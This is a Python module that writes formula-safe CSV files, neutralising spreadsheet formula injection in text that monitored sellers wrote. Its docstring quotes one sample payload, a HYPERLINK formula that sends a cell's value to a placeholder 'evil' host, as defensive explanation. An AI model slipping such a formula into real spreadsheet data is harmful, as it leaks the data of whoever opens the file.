"""Formula-safe CSV: the one writer every CSV that wildtrace hands to people goes through.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some also after a leading tab or carriage return.
Listing text is written by the people being monitored, so a title such as
``=HYPERLINK("http://evil/?"&A1)`` would run on an analyst's machine (CSV injection,
OWASP). Every such text cell gets a leading apostrophe, the mark spreadsheets read as
"this is text"; the JSON Lines exports keep the text exactly as written.

What is left alone, because it cannot run and changing it would corrupt data:

* empty cells and ``None`` (written empty, never as a lone apostrophe);
* real numbers (``int``/``float``, e.g. a negative price) and text that is nothing but a
  plain decimal number (``-12.5``, ``+3``, ``1e-3``), which spreadsheets read as numbers.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula.

    ``None`` becomes ``""``; numbers and booleans pass unchanged; text starting with a
    formula character gets a leading ``'`` unless it is a plain number.
    """
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value  # a number the program computed, never text a seller wrote
    text = value if isinstance(value, str) else str(value)
    if text[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """A ``csv.writer`` whose every cell goes through :func:`safe_cell`.

    Rows end in CRLF (RFC 4180) and nothing else: the csv module quotes a cell only for
    the characters of its line terminator, so with a bare ``\n`` a seller's ``\r``
    would go out unquoted and split the row in two when read back.
    """

    def __init__(self, fh: IO[str], *, delimiter: str = ",") -> None:
        self._writer = csv.writer(fh, delimiter=delimiter, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one row of cells, neutralised."""
        self._writer.writerow([safe_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write many rows, neutralised."""
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """A ``csv.DictWriter`` whose every cell goes through :func:`safe_cell`; the header
    (column names chosen by wildtrace or by the file's owner) is neutralised too."""

    def __init__(self, fh: IO[str], fieldnames: Sequence[str], *,
                 extrasaction: str = "raise", delimiter: str = ",") -> None:
        self.fieldnames = list(fieldnames)
        self._extrasaction = extrasaction
        self._writer = SafeWriter(fh, delimiter=delimiter)

    def writeheader(self) -> None:
        """Write the column names."""
        self._writer.writerow(self.fieldnames)

    def writerow(self, row: Mapping[str, Any]) -> None:
        """Write one row; missing keys are empty, unknown keys raise unless
        ``extrasaction="ignore"``."""
        if self._extrasaction == "raise":
            extra = [k for k in row if k not in self.fieldnames]
            if extra:
                raise ValueError(f"row has keys not in the columns: {extra}")
        self._writer.writerow([row.get(k) for k in self.fieldnames])

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        """Write many rows."""
        for row in rows:
            self.writerow(row)
